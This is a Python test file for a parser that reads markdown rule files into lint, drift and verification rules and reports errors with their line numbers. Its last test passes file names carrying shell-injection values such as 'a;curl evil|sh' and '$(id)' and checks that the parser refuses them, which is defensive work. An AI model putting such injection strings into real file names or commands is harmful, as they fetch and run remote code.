"""Rule files as people write them, and what is said about wrong ones, with the line."""

from __future__ import annotations

from clickstop.learning.rule import Rule, read
from tests.each import each

PATH = "memory/feedback_no-naive-now.md"
HEAD = "---\nname: no naive now\ndescription: Times have zones.\n---\n"


def _read(enforcement: str, head: str = HEAD) -> Rule:
    rule, troubles = read(head + enforcement, PATH)
    assert troubles == []
    assert rule is not None
    return rule


def _wrong(text: str) -> list[tuple[int, str]]:
    rule, troubles = read(text, PATH)
    assert rule is None
    return [(trouble.line, trouble.text) for trouble in troubles]


def test_a_piece_of_code_is_a_pattern_of_its_language() -> None:
    rule = _read("# Rule\n\n## Enforcement\n\n```python\ndatetime.now()\n```\n")
    assert (rule.slug, rule.kind, rule.engine, rule.languages) == (
        "no-naive-now",
        "pattern",
        "structure",
        ["python"],
    )
    assert (rule.severity, rule.message, rule.anchors) == ("block", "Times have zones.", ["datetime"])


def test_a_whole_rule_of_ast_grep_is_taken_as_it_is() -> None:
    text = "## Enforcement\n```yaml\nid: x\nlanguage: ts\nfiles: [src/**]\nrule:\n  pattern: Date.now($$$A)\n```\n"
    rule = _read(text)
    assert rule.languages == ["typescript", "tsx"]
    assert rule.globs == ["src/**"]


def test_fields_may_be_bullets_bold_or_plain() -> None:
    for line in ("- kind: pattern", "**Kind:** pattern", "kind: pattern", "* **Kind**: `pattern`"):
        assert _read(f"## Enforcement\n\n{line}\n\n```regex\nnow\\(\\)\n```\n").engine == "regex"


def test_globs_and_severity_stand_in_front_matter_or_in_the_section() -> None:
    head = HEAD.replace(
        "---\nname", "---\nseverity: high\npaths:\n  - src/**/*.py\n  - lib/*.py\nincident: 2030-01-02-clock\nname"
    )
    rule = _read("## Enforcement\n```regex\nnow\\(\\)\n```\n", head)
    assert (rule.globs, rule.severity, rule.incident) == (["src/**/*.py", "lib/*.py"], "block", "2030-01-02-clock")
    rule = _read("## Enforcement\n- paths: src/**/*.{py,pyi}, lib/*.py\n- severity: warn\n```regex\nnow\n```\n")
    assert (rule.globs, rule.severity) == (["src/**/*.{py,pyi}", "lib/*.py"], "warn")


def test_a_command_is_a_drift_guard_unless_it_is_called_a_verification() -> None:
    assert _read("## Enforcement\n```sh\n$ make drift\n```\n").kind == "drift"
    rule = _read("## Enforcement\nkind: verification\n```sh\nmake a\nmake b\n```\n")
    assert (rule.kind, rule.command) == ("verification", "make a && make b")


def test_an_id_of_the_rules_file_is_guidance() -> None:
    rule = _read("## Enforcement\nThis is CR-12 of the rules.\n")
    assert (rule.kind, rule.reference, rule.severity) == ("canonical", "CR-12", "warn")


def test_a_heading_inside_code_is_no_heading() -> None:
    rule = _read("## Enforcement\n\n```regex\n## todo\n```\n\n## Why\n\n```sh\nrm x\n```\n")
    assert (rule.kind, rule.pattern, rule.command) == ("pattern", "## todo", "")


def test_a_file_without_enforcement_is_no_rule_and_not_wrong() -> None:
    assert read(HEAD + "Only text.\n", PATH) == (None, [])


@each(
    ("text", "line", "said"),
    [
        ("no front matter\n## Enforcement\n```regex\nx\n```\n", 1, "front matter is missing"),
        ("---\nname: x\n", 1, "not closed"),
        ("---\nname: [x\n---\n", 2, "not YAML"),
        ("---\nname: x\n---\n## Enforcement\n```regex\nx\n```\n", 1, "description is missing"),
        (
            HEAD.replace("name:", "severity: loud\nname:") + "## Enforcement\n```regex\nx\n```\n",
            2,
            "severity 'loud'",
        ),
        (HEAD + "## Enforcement\nkind: wish\n", 6, "kind 'wish'"),
        (HEAD + "## Enforcement\nSomebody should look.\n", 5, "nothing that can be enforced"),
        (HEAD + "## Enforcement\nkind: pattern\n", 6, "needs a block"),
        (HEAD + "## Enforcement\nkind: drift\n", 6, "needs a command"),
        (HEAD + "## Enforcement\nkind: canonical\n", 6, "needs its ID"),
        (HEAD + "## Enforcement\n```regex\n(a\n```\n", 7, "linear-time"),
        (HEAD + "## Enforcement\n```regex\n(?=a)\n```\n", 7, "linear-time"),
        (HEAD + "## Enforcement\n```yaml\nrule: [a\n```\n", 7, "not YAML"),
        (HEAD + "## Enforcement\n```yaml\nlanguage: python\nrule: {kind: nonsense}\n```\n", 7, "nonsense"),
        (HEAD + "## Enforcement\n```yaml\nlanguage: cobol\nrule: {pattern: a}\n```\n", 7, "language 'cobol'"),
        (HEAD + "## Enforcement\n```yaml\nrule: {pattern: a}\n```\n", 7, "needs a language"),
        (HEAD + "## Enforcement\n```regex\na\n```\n```regex\nb\n```\n", 9, "a second regex"),
        (HEAD + "## Enforcement\n```regex\na\n", 6, "not closed"),
        (HEAD.replace("name:", "paths: 3\nname:") + "## Enforcement\n```regex\nx\n```\n", 2, "globs must be"),
    ],
)
def test_what_is_wrong_is_said_with_its_line(text: str, line: int, said: str) -> None:
    troubles = _wrong(text)
    assert any(at == line and said in what for at, what in troubles), troubles


def test_the_digest_is_about_what_a_proof_is_about() -> None:
    one = _read("## Enforcement\n```regex\nnow\\(\n```\n")
    reworded = _read("## Enforcement\n```regex\nnow\\(\n```\n", HEAD.replace("zones", "time zones"))
    other = _read("## Enforcement\n```regex\nnow \\(\n```\n")
    assert one.digest == reworded.digest != other.digest


@each("name", ["a;curl evil|sh", "a b", "$(id)", "`id`", "a&b", "a\nb"])
def test_a_name_that_a_shell_would_run_is_refused_because_messages_contain_commands_with_it(name: str) -> None:
    text = HEAD + "## Enforcement\n\n```python\nnow()\n```\n"
    rule, troubles = read(text, f"memory/feedback_{name}.md")
    assert rule is None
    assert "rename the file" in troubles[0].text
